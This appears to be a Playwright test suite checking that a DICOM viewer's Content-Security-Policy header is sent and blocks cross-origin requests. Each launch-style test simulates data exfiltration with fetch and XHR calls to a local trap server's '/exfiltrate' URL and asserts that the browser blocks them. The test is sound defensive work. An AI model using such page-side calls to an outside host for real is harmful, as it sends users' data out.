import type { Page } from 'playwright-core';
import { useBrowserSuite } from '../lib/browserSuite';
import { LAUNCH_STYLES, launchStudy } from '../lib/launchStudy';
import { startTrapServer } from '../lib/trapServer';

declare global {
  interface Window {
    __cspViolations?: string[];
  }
}

const violations = (page: Page) => page.evaluate(() => window.__cspViolations ?? []);

describe("the viewer origin's recommended CSP (connect-src 'self' + the KHEOPS origin)", () => {
  const suite = useBrowserSuite(['--profile', 'ohif']);
  let trap: Awaited<ReturnType<typeof startTrapServer>>;
  beforeAll(async () => {
    trap = await startTrapServer();
    await suite.session.context.addInitScript(() => {
      window.__cspViolations = [];
      document.addEventListener('securitypolicyviolation', (e) =>
        window.__cspViolations!.push(`${e.effectiveDirective} ${e.blockedURI}`),
      );
    });
  });
  afterAll(async () => trap.close());

  suite.test('is sent with the viewer HTML and its scripts', async () => {
    const expected = `connect-src 'self' ${suite.sandbox.root}`;
    const html = await fetch(`${suite.sandbox.viewer}/kheops`);
    expect(html.headers.get('content-security-policy')).toBe(expected);
    // A script of the OHIF dist (app-config.js is rendered by the sandbox and does not start workers).
    const script = [...(await html.text()).matchAll(/<script[^>]+src="([^"]+\.js)"/g)]
      .map((m) => m[1]!)
      .find((src) => !src.includes('app-config'));
    expect(script).toBeDefined();
    const js = await fetch(new URL(script!, `${suite.sandbox.viewer}/`));
    expect(js.status).toBe(200);
    expect(js.headers.get('content-security-policy')).toBe(expected);
  });

  for (const style of LAUNCH_STYLES) {
    suite.test(
      `${style}: the viewer launches and renders under it without a single violation; a request to another origin is blocked by the browser`,
      async () => {
        const study = suite.sandbox.studies.find((s) => s.series.length >= 3)!;
        const { popup } = await launchStudy(suite, {
          style,
          study,
          series: study.series[1]!.seriesInstanceUID,
        });
        await popup.waitForTimeout(1_000); // let late loads (thumbnails, workers) run
        expect(await violations(popup)).toEqual([]);

        // Not DICOMweb-shaped, so the request guard lets it through: only the CSP stands in the way.
        const target = `${trap.origin}/exfiltrate?from=viewer`;
        const outcome = await popup.evaluate(async (url) => {
          const viaFetch = await fetch(url).then(
            (r) => `answered ${r.status}`,
            (e: Error) => e.name,
          );
          const viaXhr = await new Promise<string>((resolve) => {
            const x = new XMLHttpRequest();
            x.open('GET', url);
            x.onload = () => resolve(`answered ${x.status}`);
            x.onerror = () => resolve('error');
            x.send();
          });
          return { viaFetch, viaXhr };
        }, target);
        expect(outcome).toEqual({ viaFetch: 'TypeError', viaXhr: 'error' });
        await popup.waitForTimeout(300);
        expect(await violations(popup)).toEqual([`connect-src ${target}`, `connect-src ${target}`]);
        expect(trap.hits).toEqual([]);
        expect(suite.session.recorder.matching(trap.origin).filter((r) => r.status !== 0)).toEqual([]);
      },
    );
  }
});
